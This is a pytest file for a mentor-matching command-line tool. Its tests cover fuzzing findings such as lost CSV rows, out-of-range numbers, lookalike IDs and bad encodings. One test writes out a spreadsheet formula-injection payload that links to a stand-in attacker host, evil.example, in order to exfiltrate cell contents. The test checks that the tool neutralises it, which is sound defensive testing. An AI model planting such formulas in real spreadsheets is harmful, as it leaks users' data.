"""Each finding of the CLI fuzzing (issue 17), as a user would meet it: rows lost to a stray
quote, formulas copied into outputs, numbers out of range, messages without a place.

Every test here failed before the fix: the command exited 0 having lost rows or written a
formula, or exited 1 (internal error) on input a user can produce.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import shutil
from pathlib import Path

import pytest

from matcher.cli._main import main
from matcher.io import load_participants
from tests.fuzz import _is_number

REPO = Path(__file__).resolve().parents[2]
SCENARIO = REPO / "scenarios" / "amn-pain-addiction"


def _program(tmp_path: Path) -> Path:
    folder = tmp_path / "program"
    folder.mkdir()
    for name in ("mentors.csv", "mentees.csv", "program.toml"):
        shutil.copy(SCENARIO / name, folder / name)
    return folder


def _edit_csv(path: Path, edit: object) -> None:
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    edit(rows)  # type: ignore[operator]
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")


def _set_cell(path: Path, column: str, value: str, row: int = 1) -> None:
    def edit(rows: list[list[str]]) -> None:
        rows[row][rows[0].index(column)] = value

    _edit_csv(path, edit)


def _run(capsys: pytest.CaptureFixture[str], *args: str | Path) -> tuple[int, str]:
    code = main([str(a) for a in args])
    captured = capsys.readouterr()
    return code, captured.err


# --- rows silently lost ---------------------------------------------------------------------


def test_an_unclosed_quote_is_an_error_naming_its_row_not_a_lost_row(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = _program(tmp_path)
    (folder / "mentees.csv").write_text('id,note\nE1,"x\nE2,y\nE3,z\n', encoding="utf-8")
    code, err = _run(capsys, "match", folder, "-o", tmp_path / "out")
    assert code == 2
    assert "mentees.csv, row 2, column 'note'" in err
    assert "never closed" in err and "2 lines" in err
    assert not (tmp_path / "out").exists()
    code, err = _run(capsys, "validate", folder)
    assert code == 2 and "row 2" in err


def test_a_quote_closed_lines_later_is_an_error_too(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = _program(tmp_path)
    text = (SCENARIO / "mentees.csv").read_text(encoding="utf-8-sig").splitlines()
    # a quote opens in row 3's last cell and closes cleanly 4 rows later: 4 people swallowed
    text[2] = text[2] + ',"'
    text[6] = text[6] + '"'
    header = text[0] + ",note"
    (folder / "mentees.csv").write_text("\n".join([header, *text[1:]]) + "\n", encoding="utf-8")
    code, err = _run(capsys, "validate", folder)
    assert code == 2
    assert "row 3, column 'note'" in err and "look like rows of their own" in err


def test_a_note_typed_over_several_lines_is_still_read(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = _program(tmp_path)

    def edit(rows: list[list[str]]) -> None:
        rows[0].append("note")
        rows[1].append("prefers evenings,\nnot Fridays; call first")
        for row in rows[2:]:
            row.append("")

    _edit_csv(folder / "mentees.csv", edit)
    code, _ = _run(capsys, "match", folder, "-o", tmp_path / "out")
    assert code == 0
    out = (tmp_path / "out" / "pairs.csv").read_text(encoding="utf-8")
    assert "prefers evenings,\r\nnot Fridays" in out or "prefers evenings,\nnot Fridays" in out


def test_a_megabyte_cell_is_named_by_row_and_column(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = _program(tmp_path)
    _set_cell(folder / "mentees.csv", "organization", "x" * 1_000_000, row=5)
    code, err = _run(capsys, "validate", folder)
    assert code == 2
    assert "mentees.csv, row 6, column 'organization'" in err and "1,000,000 characters" in err


# --- formulas in outputs --------------------------------------------------------------------


@pytest.mark.parametrize("excel", [False, True])
def test_formulas_in_pass_through_cells_and_headers_are_neutralised(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], excel: bool
) -> None:
    folder = _program(tmp_path)
    attack = '=HYPERLINK("http://evil.example/?"&A1,"open")'

    def edit(rows: list[list[str]]) -> None:
        rows[0].append("@note")
        for row in rows[1:]:
            row.append(attack)

    _edit_csv(folder / "mentees.csv", edit)
    _edit_csv(folder / "mentors.csv", edit)
    args = ["match", folder, "-o", tmp_path / "out"] + (["--excel"] if excel else [])
    code, _ = _run(capsys, *args)
    assert code == 0
    for name in ("pairs.csv", "unmatched.csv"):
        text = (tmp_path / "out" / name).read_bytes().decode("utf-8-sig")
        cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
        assert "'" + attack in cells
        assert not [c for c in cells if c[:1] in ("=", "@", "+", "\t", "\r")]
        assert not [c for c in cells if c.startswith("-") and not _is_number(c)]


def test_an_id_that_looks_like_a_formula_is_rejected_at_input(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = _program(tmp_path)
    _set_cell(folder / "mentees.csv", "id", "=1+1", row=3)
    code, err = _run(capsys, "match", folder, "-o", tmp_path / "out")
    assert code == 2
    assert "mentees.csv, row 4, column 'id'" in err and "formula" in err


# --- internal errors on inputs a user can produce -------------------------------------------


def test_a_huge_capacity_is_a_located_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = _program(tmp_path)
    _set_cell(folder / "mentors.csv", "capacity", "1e19")
    code, err = _run(capsys, "match", folder, "-o", tmp_path / "out")
    assert code == 2
    assert "mentors.csv, row 2, column 'capacity'" in err and "1,000,000" in err


def test_a_rank_of_23_digits_is_a_located_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    edges = tmp_path / "edges.csv"
    edges.write_text(
        "mentee_id,mentor_id,score,mentee_rank,mentor_rank\n"
        "e1,m1,0.5,12345678901234567890123,1\ne2,m1,0.4,1.0,2\n",
        encoding="utf-8",
    )
    code, err = _run(capsys, "solve", edges, "--method", "stable", "-o", tmp_path / "out")
    assert code == 2
    assert "edges.csv, row 2, column 'mentee_rank'" in err


def test_ranks_written_as_1_0_are_read_as_1(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    edges = tmp_path / "edges.csv"
    edges.write_text(
        "mentee_id,mentor_id,score,mentee_rank,mentor_rank\ne1,m1,0.5,1.0,1.0\n",
        encoding="utf-8",
    )
    code, _ = _run(capsys, "solve", edges, "--method", "stable", "-o", tmp_path / "out")
    assert code == 0


@pytest.mark.parametrize("command", ["match", "validate"])
def test_program_toml_that_is_a_folder(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str
) -> None:
    folder = _program(tmp_path)
    (folder / "program.toml").unlink()
    (folder / "program.toml").mkdir()
    args = [command, folder] + (["-o", tmp_path / "out"] if command == "match" else [])
    code, err = _run(capsys, *args)
    assert code == 2 and "program.toml: is a folder" in err


def test_mentors_csv_that_is_a_folder_is_not_called_missing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = _program(tmp_path)
    (folder / "mentors.csv").unlink()
    (folder / "mentors.csv").mkdir()
    code, err = _run(capsys, "match", folder, "-o", tmp_path / "out")
    assert code == 2 and "mentors.csv: is a folder" in err and "not found" not in err


def test_a_negative_seed_is_refused_by_flag_and_by_toml(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = _program(tmp_path)
    code, err = _run(capsys, "match", folder, "-o", tmp_path / "out", "--seed", "-1")
    assert code == 2 and "--seed" in err
    text = (folder / "program.toml").read_text(encoding="utf-8")
    (folder / "program.toml").write_text(
        text.replace("[program]\n", "[program]\nseed = -1\n", 1), encoding="utf-8"
    )
    code, err = _run(capsys, "match", folder, "-o", tmp_path / "out")
    assert code == 2 and "program.seed" in err


@pytest.mark.parametrize("weight", ["1e39", "inf", "nan", "3.5e38"])
@pytest.mark.parametrize("method", ["optimal", "groups"])
def test_weights_out_of_range_are_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], weight: str, method: str
) -> None:
    folder = _program(tmp_path)
    (folder / "program.toml").write_text(f"[criteria.region]\nweight = {weight}\n", "utf-8")
    code, err = _run(capsys, "match", folder, "-o", tmp_path / "out", "--method", method)
    assert code == 2 and "criteria.region.weight" in err
    assert not (tmp_path / "out").exists()


def test_a_time_zone_cell_of_300_characters(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = _program(tmp_path)
    _set_cell(folder / "mentees.csv", "timezone", "America/" + "x" * 300)
    code, err = _run(capsys, "match", folder, "-o", tmp_path / "out")
    assert code == 2 and "mentees.csv, row 2, column 'timezone'" in err


# --- nonsense accepted ----------------------------------------------------------------------


@pytest.mark.parametrize("value", ["nan", "inf", "-inf", "1e9"])
def test_solve_refuses_a_min_score_that_is_not_a_number_in_range(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], value: str
) -> None:
    edges = tmp_path / "edges.csv"
    edges.write_text("mentee_id,mentor_id,score\ne1,m1,0.5\n", encoding="utf-8")
    code, err = _run(capsys, "solve", edges, f"--min-score={value}", "-o", tmp_path / "out")
    assert code == 2 and "--min-score" in err


@pytest.mark.parametrize(
    ("toml", "key", "expected"),
    [
        ('[criteria.specialty]\nweight = "3"\n', "criteria.specialty.weight", "a number"),
        ('[criteria.specialty]\nhard = "yes"\n', "criteria.specialty.hard", "true or false"),
        ("[program]\nseed = true\n", "program.seed", "a whole number"),
    ],
)
def test_toml_types_are_strict(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], toml: str, key: str, expected: str
) -> None:
    folder = _program(tmp_path)
    (folder / "program.toml").write_text(toml, encoding="utf-8")
    code, err = _run(capsys, "validate", folder)
    assert code == 2 and key in err and expected in err


def test_an_id_of_only_a_zero_width_space_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = _program(tmp_path)
    _set_cell(folder / "mentees.csv", "id", "\u200b")
    code, err = _run(capsys, "validate", folder)
    assert code == 2 and "mentees.csv, row 2, column 'id'" in err and "invisible" in err


def test_ids_differing_by_case_width_or_lookalikes_are_warned_about(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
) -> None:
    folder = _program(tmp_path)
    _set_cell(folder / "mentees.csv", "id", "e0001", row=2)  # beside E0001 on row 2
    _set_cell(folder / "mentees.csv", "id", "\u04150003", row=4)  # a Cyrillic Е before E0003
    with caplog.at_level(logging.WARNING, logger="matcher"):
        code, _ = _run(capsys, "validate", folder)
    assert code == 0
    assert "'E0001' (row 2) and 'e0001' (row 3)" in caplog.text
    assert "'E0003' (row 4)" in caplog.text and "lookalike" in caplog.text


def test_a_full_width_id_is_the_same_id(tmp_path: Path) -> None:
    folder = _program(tmp_path)
    _set_cell(folder / "mentees.csv", "id", "\uff25\uff10\uff10\uff10\uff11\u200b")  # ＥＯＯＯ１
    mentees = load_participants(folder / "mentees.csv", "mentee")
    assert mentees.participants[0].id == "E0001"


def test_an_unknown_two_letter_language_code_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = _program(tmp_path)
    _set_cell(folder / "mentees.csv", "languages", "en|qq")
    code, err = _run(capsys, "validate", folder)
    assert code == 2 and "column 'languages'" in err and "'qq' is not" in err


def test_a_person_cannot_exclude_themselves(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = _program(tmp_path)
    _set_cell(folder / "mentees.csv", "exclude", "E0001")
    code, err = _run(capsys, "validate", folder)
    assert code == 2 and "mentees.csv, row 2, column 'exclude'" in err and "themselves" in err


def test_solve_flag_errors_name_the_flag(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    edges = tmp_path / "edges.csv"
    edges.write_text("mentee_id,mentor_id,score\ne1,m1,0.5\n", encoding="utf-8")
    code, err = _run(capsys, "solve", edges, "--method", "groups", "-o", tmp_path / "out")
    assert code == 2 and "--method" in err and "column" not in err


def test_solve_scores_too_large_name_file_row_and_column(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    edges = tmp_path / "edges.csv"
    edges.write_text("mentee_id,mentor_id,score\ne1,m1,0.5\ne2,m1,1e12\n", encoding="utf-8")
    code, err = _run(capsys, "solve", edges, "-o", tmp_path / "out")
    assert code == 2 and "edges.csv, row 3, column 'score'" in err


def test_summary_is_strict_json(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = _program(tmp_path)
    code, _ = _run(capsys, "match", folder, "-o", tmp_path / "out")
    assert code == 0

    def refuse(name: str) -> None:
        raise AssertionError(f"non-JSON constant {name}")

    json.loads((tmp_path / "out" / "summary.json").read_text("utf-8"), parse_constant=refuse)


def test_a_byte_order_mark_then_bytes_that_are_not_utf8(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # found by the fuzzing harness: an internal error (UnicodeDecodeError) before the fix
    folder = _program(tmp_path)
    data = (folder / "mentees.csv").read_bytes()
    (folder / "mentees.csv").write_bytes(b"\xef\xbb\xbf" + data[:3] + b"\x80" + data[3:])
    code, err = _run(capsys, "match", folder, "-o", tmp_path / "out")
    assert code == 2 and "mentees.csv, row 1: not valid UTF-8" in err
